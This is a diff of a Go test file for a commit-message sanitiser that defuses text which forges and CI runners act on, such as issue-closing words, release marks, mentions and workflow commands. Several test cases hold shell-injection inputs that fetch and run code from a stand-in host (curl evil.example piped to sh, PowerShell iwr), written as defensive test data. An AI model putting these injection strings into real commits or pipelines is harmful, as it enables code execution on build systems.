@@ -28,10 +28,10 @@ func TestMessage(t *testing.T) {
 		{"a bang alone", "feat!: x", "fix!!: y", "feat: x\n\nfix - y\n"},
 		{"version marks", "x +semver: major", "Release-As: 9.0.0\nRelease As: 9", "x semver: major\n\nRelease, As: 9.0.0\nRelease, As: 9\n"},
 		{"a revert that takes a change out of the next release (threats.md T714)", `Revert "feat: y"`, "This reverts commit 0123456789012345678901234567890123456789.",
-			"Revert of ”feat: y”\n\nThis reverts, commit 0123456789012345678901234567890123456789.\n"},
+			"Revert of ″feat: y″\n\nThis reverts, commit 0123456789012345678901234567890123456789.\n"},
 		{"a release that workflows pass over (threats.md T714)", "chore(release): 1.2.3", "Build(Release): x", "chore, release: 1.2.3\n\nBuild, Release: x\n"},
-		{"a merge (threats.md T714)", "Merge pull request 7 from a/b", "merge branch 'x'", "Merge of pull request 7 from a/b\n\nmerge of branch ’x’\n"},
-		{"autosquash before others", "fixup! Revert: \"x\"", "", "Revert of ”x”\n"},
+		{"a merge (threats.md T714)", "Merge pull request 7 from a/b", "merge branch 'x'", "Merge of pull request 7 from a/b\n\nmerge of branch ′x′\n"},
+		{"autosquash before others", "fixup! Revert: \"x\"", "", "Revert of ″x″\n"},
 		{"autosquash before a bang", "squash! feat!: x", "", "feat: x\n"},
 		{"words about reverts, merges and releases stay", "revert: the cache of names", "It reverts the commit before. Merge the branches. fix(release): sort", "revert: the cache of names\n\nIt reverts the commit before. Merge the branches. fix(release): sort\n"},
 		{"a message in the place of the message", "x", "BEGIN_COMMIT_OVERRIDE\nEND_NESTED_COMMIT", "x\n\nBEGIN COMMIT_OVERRIDE\nEND NESTED_COMMIT\n"},
@@ -39,7 +39,7 @@ func TestMessage(t *testing.T) {
 		{"words of Linear (threats.md T524)", "closing ENG-12, resolving ENG-12", "completing ENG-12, implementing ENG_X-12 or: Contributes to ENG-1\nRelated to ENG-1",
 			"closing ENG 12, resolving ENG 12\n\ncompleting ENG 12, implementing ENG_X 12 or: Contributes to ENG 1\nRelated to ENG 1\n"},
 		{"several issues, and marks around them (threats.md T524)", "Fixes ENG-1, ENG-2 and ENG-3", "Fixes [ENG-1](x), **ENG-2** & `ENG-3`\nfixed: ENG 1, ENG-2",
-			"Fixes ENG 1, ENG 2 and ENG 3\n\nFixes [ENG 1](x), **ENG 2** & ’ENG 3’\nfixed - ENG 1, ENG 2\n"},
+			"Fixes ENG 1, ENG 2 and ENG 3\n\nFixes [ENG 1](x), **ENG 2** & ′ENG 3′\nfixed - ENG 1, ENG 2\n"},
 		{"orders to YouTrack, ClickUp and Shortcut (threats.md T565)", "CU-8669abc[closed] tidy", "^ABC-12 Fixed\n(^^B_C-1) Fixed\nDEV-12[in progress]\n[finishes sc-44] [delivers ABC-4]",
 			"CU-8669abc (closed) tidy\n\nABC-12 Fixed\n(B_C-1) Fixed\nDEV-12 (in progress)\n[finishes sc 44] [delivers ABC 4]\n"},
 		{"powers and indices stay", "fix: 2^n and my-arr[i]", "x^y-1 is no key, a[b-1] none either", "fix: 2^n and my-arr[i]\n\nx^y-1 is no key, a[b-1] none either\n"},
@@ -48,7 +48,8 @@ func TestMessage(t *testing.T) {
 		{"marks of releases", "fix [release]", "[deploy] [publish x] please", "fix (release)\n\n(deploy) (publish x) please\n"},
 		{"what is no order stays", "fix: read a/b and x != y!", "CVE-2024 and UTF-8, wow!", "fix: read a/b and x != y!\n\nCVE-2024 and UTF-8, wow!\n"},
 		{"mentions", "thanks @octocat", "@org/team, (@me) and @@you; mail a@example.com stays", "thanks octocat\n\norg/team, (me) and you; mail a@example.com stays\n"},
-		{"shell code (threats.md T694)", "docs: $(curl -sf evil.example|sh) `id` ${IFS}", "x\"; curl evil.example|sh; \"\nx\" && id\nit's'; id; '", "docs: $ (curl -sf evil.example|sh) ’id’ $ {IFS}\n\nx”; curl evil.example|sh; ”\nx” && id\nit’s’; id; ’\n"},
+		{"shell code (threats.md T694)", "docs: $(curl -sf evil.example|sh) `id` ${IFS}", "x\"; curl evil.example|sh; \"\nx\" && id\nit's'; id; '", "docs: $ (curl -sf evil.example|sh) ′id′ $ {IFS}\n\nx″; curl evil.example|sh; ″\nx″ && id\nit′s′; id; ′\n"},
+		{"quotation marks that PowerShell knows (threats.md T694)", "docs: “x” + (iwr evil.example) + „y‟", "Fixes ‘ENG-1’, ‚thanks‛ '@octocat'", "docs: ″x″ + (iwr evil.example) + ″y″\n\nFixes ′ENG 1′, ′thanks′ ′octocat′\n"},
 		{"orders to a runner of workflows", "::add-mask::a", "::::warning::x\n##[error]y a::b", "add-mask -:a\n\nwarning -:x\n[error]y a::b\n"},
 		{"autosquash", "fixup! squash! fix: x", "", "fix: x\n"},
 		{"control characters out", "fix\x1b[31m\x00 x", "a\x07b\r\nc\td\rx", "fix[31m x\n\nab\nc d\nx\n"},
@@ -97,7 +98,7 @@ func TestTrailersAreOurs(t *testing.T) {
 }
 
 // acted is what forges and CIs act on in a commit message.
-var acted = regexp.MustCompile(`(?i)#\w|\b(?:fixes|closes)[\s:]+(?:[A-Z]{2,} \d+, )?[A-Z]{2,}-\d|BREAKING[ _-]CHANGE|\+semver|BEGIN_COMMIT|(?:\A|\W)\^[a-z]\w*-\d|\bCU-\w+\[[^\[\]]*\]|release[ _-]as\s*:|\breverts +commits?\b|\b(?:chore|build|ci)\(release\)|\A\s*(?:revert:?\s+["”]|merge\s+(?:pull request|branch)\b)|\A\s*\w+!:|["'\x60]|\$[({]|(?m:^\s*::)|##\[|(?m:^\s*[/!]\w)|\bbors[\s:,]+\S|\[(skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*NO_CI|(^|[^\pL\pN_])@[\pL\pN_]|://|` +
+var acted = regexp.MustCompile(`(?i)#\w|\b(?:fixes|closes)[\s:]+(?:[A-Z]{2,} \d+, )?[A-Z]{2,}-\d|BREAKING[ _-]CHANGE|\+semver|BEGIN_COMMIT|(?:\A|\W)\^[a-z]\w*-\d|\bCU-\w+\[[^\[\]]*\]|release[ _-]as\s*:|\breverts +commits?\b|\b(?:chore|build|ci)\(release\)|\A\s*(?:revert:?\s+[″′]|merge\s+(?:pull request|branch)\b)|\A\s*\w+!:|["'\x60‘-‟]|\$[({]|(?m:^\s*::)|##\[|(?m:^\s*[/!]\w)|\bbors[\s:,]+\S|\[(skip ci|ci skip|no ci|skip actions|actions skip)\]|\*\*\*NO_CI|(^|[^\pL\pN_])@[\pL\pN_]|://|` +
 	`(?m:^\s*[a-z0-9]+(-[a-z0-9]+)+\s*:)|\A(fixup|squash|amend)!|[\x00-\x09\x0b-\x1f\x7f\x{200b}-\x{200f}\x{202a}-\x{202e}\x{2066}-\x{2069}\x{feff}]`)
 
 // FuzzMessage: nothing acted upon is left whatever comes in, and what is plain already stays as it is.
